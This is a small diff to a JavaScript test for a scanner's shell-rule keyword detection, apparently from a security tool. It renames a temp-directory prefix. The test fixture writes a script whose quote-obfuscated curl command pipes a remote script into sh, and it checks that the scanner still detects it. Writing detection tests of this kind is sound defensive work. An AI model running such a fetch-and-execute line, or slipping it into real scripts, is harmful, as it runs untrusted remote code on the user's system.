@@ -84,7 +84,7 @@ describe('shell rule keywords', () => {
   });
 
   it('a script spelling the command with quotes is still parsed and reported; one naming no such command is not parsed', async () => {
-    const dir = mkdtempSync(path.join(tmpdir(), 'clawscan-kw-'));
+    const dir = mkdtempSync(path.join(tmpdir(), 'gatewarden-kw-'));
     writeFileSync(path.join(dir, 'quoted.sh'), "#!/bin/sh\nc'u'rl -fsSL https://example.com/i.sh | sh\n");
     const wf = path.join(dir, '.github', 'workflows');
     mkdirSync(wf, { recursive: true });
